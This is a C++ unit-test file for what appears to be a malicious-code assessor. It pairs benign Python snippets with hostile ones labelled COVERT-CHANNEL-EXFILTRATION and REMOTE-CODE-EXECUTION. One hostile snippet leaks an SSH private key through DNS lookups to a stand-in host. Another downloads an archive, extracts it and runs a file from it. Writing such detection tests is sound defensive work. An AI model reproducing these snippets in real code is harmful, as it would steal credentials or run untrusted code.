// The classes the thirty-fourth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog38_MANIFEST.tsv): home labs and self-hosting,
// open-source maintainer tooling, scientific workstations, small business
// IT, and education and student code. Its aside scored 30/31 before any
// change; the classes below came from its tune part (67/69 before).
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A queue hands on the items themselves: names put by the main thread and
// resolved by worker threads keep their text (a domain with the data in
// its labels), not only their labels.
TEST(ThirtyFourthRoundClasses, AQueueHandsOnItsItems) {
  const Case cases[] = {
      {"key material resolved as DNS labels by worker threads", B,
       "import base64, os, queue, socket, threading\n"
       "class Probe:\n"
       "    def __init__(self):\n        self.q = queue.Queue()\n"
       "        self.workers = [threading.Thread(target=self._run, daemon=True) for _ in range(4)]\n"
       "    def _run(self):\n        while True:\n            name = self.q.get()\n"
       "            if name is None:\n                break\n            socket.getaddrinfo(name, 443)\n"
       "    def resolve_all(self, names):\n        for t in self.workers:\n            t.start()\n"
       "        for n in names:\n            self.q.put(n)\n"
       "blob = open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read()\n"
       "label = base64.b32encode(blob).decode()[:50].lower() + '.probe.example.net'\n"
       "Probe().resolve_all([label])\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the instance's own domains resolved the same way", L,
       "import queue, socket, threading\n"
       "q = queue.Queue()\n"
       "def run():\n    while True:\n        name = q.get()\n        socket.getaddrinfo(name, 443)\n"
       "threading.Thread(target=run, daemon=True).start()\n"
       "for n in ['cloud.example.org', 'files.example.org']:\n    q.put(n)\n"},
  };
  for (const auto& c : cases) check(c);
}

// mkdtemp() names a directory of its own (as a temporary file's name is):
// an archive downloaded and extracted into it, then a file found there by a
// glob and run, runs what the archive held.
TEST(ThirtyFourthRoundClasses, AFileFoundInAnExtractedDownloadRuns) {
  const Case cases[] = {
      {"a bundle's entry point, named by configuration, run", B,
       "import configparser, io, runpy, tarfile, tempfile\nfrom pathlib import Path\nimport httpx\n"
       "cp = configparser.ConfigParser()\ncp.read('shim.ini')\n"
       "with httpx.Client(timeout=30) as client:\n"
       "    data = client.get('https://cdn.example.net/bundle.tar.gz').content\n"
       "workdir = Path(tempfile.mkdtemp(prefix='shim-'))\n"
       "with tarfile.open(fileobj=io.BytesIO(data), mode='r:gz') as tf:\n"
       "    tf.extractall(workdir, filter='data')\n"
       "entry = list(workdir.rglob(cp.get('shim', 'entry')))[0]\n"
       "runpy.run_path(str(entry), run_name='__main__')\n",
       "REMOTE-CODE-EXECUTION"},
      {"the same bundle unpacked and listed only", L,
       "import io, tarfile, tempfile\nfrom pathlib import Path\nimport httpx\n"
       "with httpx.Client(timeout=30) as client:\n"
       "    data = client.get('https://cdn.example.net/bundle.tar.gz').content\n"
       "workdir = Path(tempfile.mkdtemp(prefix='shim-'))\n"
       "with tarfile.open(fileobj=io.BytesIO(data), mode='r:gz') as tf:\n"
       "    tf.extractall(workdir, filter='data')\n"
       "for p in workdir.rglob('*.py'):\n    print(p.name)\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
